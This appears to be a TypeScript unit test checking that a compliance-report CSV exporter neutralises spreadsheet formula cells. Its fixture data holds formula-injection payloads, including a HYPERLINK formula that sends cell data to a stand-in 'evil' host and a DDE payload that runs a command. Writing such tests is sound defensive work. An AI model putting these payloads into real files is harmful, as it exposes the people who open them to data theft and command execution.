import { reportToCsv, type ComplianceReport } from './reports';

const report = (rows: Record<string, string | number | null>[]): ComplianceReport => ({
  framework: 'SOX',
  from: '2026-01-01',
  to: '2026-02-01',
  generatedAt: '2026-02-01T00:00:00.000Z',
  summary: { entries: 2 },
  sections: [{ name: 'access', rows }],
});

describe('reportToCsv', () => {
  it('neutralises cells a spreadsheet would run as formulas, and keeps numbers as numbers', () => {
    const csv = reportToCsv(
      report([
        { actor: '=HYPERLINK("http://evil/?"&A1,"click")', reason: "+cmd|'/c calc'!A0", id: '@SUM(1+1)' },
        { actor: '-2+3', amount: '-27.00', count: 5, note: '\tTAB', wide: '＝1+1' },
      ]),
    );
    expect(csv).toContain(`access,1,actor,"'=HYPERLINK(""http://evil/?""&A1,""click"")"`);
    expect(csv).toContain(`access,1,reason,'+cmd|'/c calc'!A0`);
    expect(csv).toContain(`access,1,id,'@SUM(1+1)`);
    expect(csv).toContain(`access,2,actor,'-2+3`);
    expect(csv).toContain('access,2,amount,-27.00');
    expect(csv).toContain('access,2,count,5');
    expect(csv).toContain(`access,2,note,'\tTAB`);
    expect(csv).toContain(`access,2,wide,'＝1+1`);
  });
});
